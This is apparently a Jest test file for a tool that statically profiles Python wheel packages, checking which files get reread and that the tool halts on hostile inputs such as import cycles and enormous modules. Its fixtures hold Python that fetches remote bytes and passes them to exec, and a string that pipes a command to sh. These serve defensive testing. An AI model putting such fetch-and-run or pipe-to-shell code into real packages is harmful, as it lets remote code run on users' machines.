import { describe, expect, test } from '@jest/globals';
import type { PythonReader } from '../../src/python/facts.js';
import { type Files, wheel } from '../support/wheel.js';
import { profileOf, realReader } from './harness.js';

interface Read {
  readonly path: string;
  /** Together with what it imports. */
  readonly joined: boolean;
}

/** The real reader, and what was read with it. */
async function watched(): Promise<{ readonly python: PythonReader; readonly reads: Read[] }> {
  const { read } = await realReader();
  const reads: Read[] = [];
  const python: PythonReader = {
    read: (bytes, path, depth, imported) => {
      reads.push({ path, joined: imported !== undefined });
      return read(bytes, path, depth, imported);
    },
  };
  return { python, reads };
}

const joinedIn = (reads: readonly Read[]): readonly string[] =>
  reads.filter(({ joined }) => joined).map(({ path }) => path);

const NET = 'import urllib.request\ndef get():\n    return urllib.request.urlopen("https://files.invalid/a").read()\n';
const FLOW: Files = {
  'demo/net.py': NET,
  'demo/run.py': 'def go(code):\n    exec(code)\n',
  'demo/__init__.py': 'from .net import get\nfrom .run import go\ngo(get())\n',
  'demo/other.py': 'import subprocess\ndef start():\n    subprocess.run(["true"])\n',
};

const inputs = async (files: Files, python: PythonReader): Promise<readonly string[]> => {
  const { behaviours } = await profileOf(wheel(files), python);
  return behaviours.filter(({ act }) => act === 'run-code').map((behaviour) => behaviour.inputs.join());
};

describe('what is read twice', () => {
  test('only files in which a flow comes together', async () => {
    const { python, reads } = await watched();
    await profileOf(wheel(FLOW), python);
    expect(joinedIn(reads)).toEqual(['demo/__init__.py']);
  });

  test('nothing, where modules only stand beside each other', async () => {
    const { python, reads } = await watched();
    await profileOf(wheel({ ...FLOW, 'demo/__init__.py': 'from .net import get\nfrom .run import go\n' }), python);
    expect(joinedIn(reads)).toEqual([]);
  });

  test('nothing at all the second time, in the next release', async () => {
    const { python, reads } = await watched();
    await profileOf(wheel(FLOW), python);
    const before = reads.length;
    await profileOf(wheel({ ...FLOW, 'demo/new.py': 'import os\nos.system("true")\n' }), python);
    expect(reads.slice(before)).toEqual([{ path: 'demo/new.py', joined: false }]);
  });

  test('a file again when what it imports changed', async () => {
    const { python, reads } = await watched();
    const plain = { ...FLOW, 'demo/net.py': 'def get():\n    return "x = 1"\n' };
    expect(await inputs(plain, python)).not.toContain('network');
    expect(await inputs(FLOW, python)).toContain('network');
    expect(await inputs(plain, python)).not.toContain('network');
    expect(reads.filter(({ path, joined }) => path === 'demo/other.py' && !joined)).toHaveLength(1);
  });
});

describe('hostile packages come to an end', () => {
  const many = (count: number, make: (index: number) => string): Files =>
    Object.fromEntries(Array.from({ length: count }, (_, index) => [`demo/m${index}.py`, make(index)]));

  test.each<{ readonly name: string; readonly files: Files }>([
    {
      name: 'a circle of a thousand modules',
      files: many(1000, (index) => {
        const next = (index + 1) % 1000;
        return `from . import m${next}\nfrom .m${next} import go as further\ndef go(x):\n    further(x)\n`;
      }),
    },
    {
      name: 'every module imports all of every other',
      files: many(80, (index) => {
        const stars = Array.from({ length: 80 }, (_, other) => `from .m${other} import *\n`).join('');
        return `${stars}def f${index}(x):\n    exec(x)\nf${(index + 7) % 80}(MISSING)\n`;
      }),
    },
    {
      name: 'a module that imports itself',
      files: {
        'demo/__init__.py':
          'from demo import *\nfrom . import go\nfrom demo import demo\ndef go(x):\n    exec(x)\ngo(go)\n',
      },
    },
    {
      name: 'names that grow on their way',
      files: {
        'demo/__init__.py': 'from .a import a\nfrom .b import f\nf(a.a.a.a)\nexec(a.b.a.b)\n',
        'demo/a.py': 'from . import a\na = a.a\nb = a.b.a\n',
        'demo/b.py': 'from .b import f\nf = f.f\n',
      },
    },
    {
      name: 'ten thousand functions in one module',
      files: {
        'demo/big.py': `def run(x):\n    exec(x)\n${Array.from({ length: 10_000 }, (_, index) => `def f${index}(x):\n    run(x)\n`).join('')}`,
        'demo/__init__.py': `from .big import *\n${Array.from({ length: 300 }, (_, index) => `f${index * 30}("import os; os.system('a | sh')")\n`).join('')}`,
      },
    },
    {
      name: 'two modules whose functions call each other for ever',
      files: {
        'demo/a.py': 'from .b import g\ndef f(x):\n    exec(x)\n    return g(x + x)\n',
        'demo/b.py': 'from .a import f\ndef g(x):\n    exec(x)\n    return f(x + x)\n',
        'demo/__init__.py': 'from .a import f\nf("import os; ")\n',
      },
    },
  ])('$name', async ({ files }) => {
    const { python, reads } = await watched();
    const profile = await profileOf(wheel(files), python);
    expect(profile.gaps).toEqual([]);
    expect(reads.length).toBeLessThanOrEqual(3 * Object.keys(files).length + 3);
  });

  test('an act at the end of a long way is told, and no more is followed than is worth it', async () => {
    const files = {
      ...many(200, (index) => `from .m${index + 1} import go as inner\ndef go(x):\n    return inner(x)\n`),
      'demo/m200.py': 'def go(x):\n    exec(x)\n',
      'demo/__init__.py': 'import base64\nfrom .m0 import go\ngo(base64.b64decode("cHJpbnQoMSk="))\n',
    };
    const { behaviours, gaps } = await profileOf(wheel(files));
    expect(behaviours.map(({ act, at }) => `${act} ${at.path}`)).toContain('run-code demo/m200.py');
    expect(gaps).toEqual([]);
  });
});
